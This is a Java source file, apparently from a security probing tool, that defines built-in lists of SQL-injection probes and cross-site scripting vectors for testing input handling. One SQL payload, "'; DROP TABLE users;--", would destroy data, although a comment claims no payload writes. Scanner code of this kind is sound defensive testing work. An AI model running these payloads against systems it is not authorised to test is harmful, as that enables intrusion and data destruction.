package dev.deploycheck.probe.input;

import java.util.ArrayList;
import java.util.List;

/** The built-in payloads: classic SQL-injection probes and XSS vectors. None waits or writes on success. */
final class Payloads {
    /** A payload and its class: {@code sql}, {@code xss} or {@code extra}. */
    record Payload(String text, String kind) {}

    static final List<String> SQL = List.of(
            "' OR '1'='1",
            "' OR 1=1--",
            "\" OR \"\"=\"",
            "admin'--",
            "') OR ('1'='1",
            "1' UNION SELECT NULL,NULL--",
            "'; DROP TABLE users;--");

    static final List<String> XSS = List.of(
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "'><iframe src=javascript:alert(1)>",
            "<body onload=alert(1)>");

    private Payloads() {}

    /** {@code sql}, {@code xss} or {@code both} (also {@code none}: only the extra payloads), then the extras. */
    static List<Payload> select(String which, List<String> extra) {
        List<Payload> out = new ArrayList<>();
        if (which.equals("sql") || which.equals("both")) {
            SQL.forEach(p -> out.add(new Payload(p, "sql")));
        }
        if (which.equals("xss") || which.equals("both")) {
            XSS.forEach(p -> out.add(new Payload(p, "xss")));
        }
        extra.forEach(p -> out.add(new Payload(p, "extra")));
        return out;
    }
}
